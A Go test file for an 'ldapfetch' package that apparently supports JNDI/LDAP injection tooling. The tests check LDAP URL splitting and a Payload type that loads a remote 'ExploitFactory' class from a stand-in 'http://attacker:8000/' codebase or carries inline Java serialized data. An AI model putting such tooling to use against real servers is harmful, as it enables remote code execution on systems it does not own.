package ldapfetch

import "testing"

func TestSplitURL(t *testing.T) {
	name, dialURL, err := splitURL("ldap://127.0.0.1:1389/Basic/Command")
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if name != "Basic/Command" {
		t.Errorf("%v, expected: Basic/Command", name)
	}
	if dialURL != "ldap://127.0.0.1:1389" {
		t.Errorf("%v, expected: ldap://127.0.0.1:1389", dialURL)
	}

	name, _, err = splitURL("ldap://10.0.0.5:389/")
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if name != "" {
		t.Errorf("%q, expected an empty name", name)
	}

	if _, _, err := splitURL("http://10.0.0.5/x"); err == nil {
		t.Error("expected an error for a non-ldap scheme")
	}
	if _, _, err := splitURL("ldap:///x"); err == nil {
		t.Error("expected an error for a missing host")
	}
}

func TestPayloadClassURL(t *testing.T) {
	p := &Payload{
		CodeBase: "http://attacker:8000/",
		Factory:  "com.example.ExploitFactory",
	}
	if !p.Remote() {
		t.Fatal("expected a remote payload")
	}
	exp := "http://attacker:8000/com/example/ExploitFactory.class"
	if p.ClassURL() != exp {
		t.Errorf("%v, expected: %v", p.ClassURL(), exp)
	}
}

func TestPayloadRemote(t *testing.T) {
	p := &Payload{SerializedData: []byte{0xac, 0xed}, CodeBase: "http://x/", Factory: "F"}
	if p.Remote() {
		t.Error("inline data must win over a codebase")
	}
	if (&Payload{CodeBase: "http://x/"}).Remote() {
		t.Error("a codebase without a factory is not remote")
	}
}
